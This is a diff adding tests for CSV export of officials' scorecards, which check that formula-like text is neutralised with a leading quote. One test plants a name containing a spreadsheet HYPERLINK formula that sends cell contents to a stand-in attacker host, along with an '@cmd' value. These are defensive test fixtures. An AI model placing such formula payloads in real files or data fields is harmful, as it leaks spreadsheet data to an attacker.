@@ -32,6 +32,8 @@ Commune: progress (3 + 0.75·2)/5 = 90.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import uuid
 from datetime import datetime, time, timedelta
 from typing import Any
@@ -46,6 +48,7 @@ from backend.db import create_pool
 from backend.push import LogPush
 from backend.services.notifications import deliver_due
 from backend.services.scorecard_jobs import queue_chair_digests, recheck_scorecards
+from backend.services.scorecards import spreadsheet_text
 from backend.settings import Settings
 from backend.workdays import LOCAL_TZ
 from tests.conftest import TokenFor
@@ -514,6 +517,41 @@ async def test_csv_exports_have_a_bom_and_respect_scope(
         headers=await headers_for("official.badinh"),
     )
     assert len(officials.content.decode("utf-8-sig").splitlines()) == 2  # the header and their own row
+
+
+@pytest.mark.parametrize(
+    ("typed", "cell"),
+    [
+        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("Nguyễn Văn An", "Nguyễn Văn An"),
+        ("Phó Chủ tịch = kiêm nhiệm", "Phó Chủ tịch = kiêm nhiệm"),
+        (None, ""),
+    ],
+)
+def test_typed_text_stays_text_in_spreadsheets(typed: str | None, cell: str) -> None:
+    assert spreadsheet_text(typed) == cell
+
+
+async def test_an_officials_name_is_never_a_formula_in_the_export(
+    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
+) -> None:
+    await build_world(db)
+    await db.execute(
+        "update officials set full_name = '=HYPERLINK(\"http://evil.example/\"&A1)', position = '@cmd' "
+        "where user_id = (select id from users where username = 'official.badinh')"
+    )
+    response = await client.get(
+        "/v1/scorecards/export",
+        params={"period": PERIOD, "commune": "00004"},
+        headers=await headers_for("official.badinh"),
+    )
+    assert response.status_code == 200, response.text
+    row = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig").splitlines()[1])))
+    assert row[3] == '\'=HYPERLINK("http://evil.example/"&A1)' and row[4] == "'@cmd"
 
 
 async def test_chairs_get_last_months_summary_on_the_first_working_day(
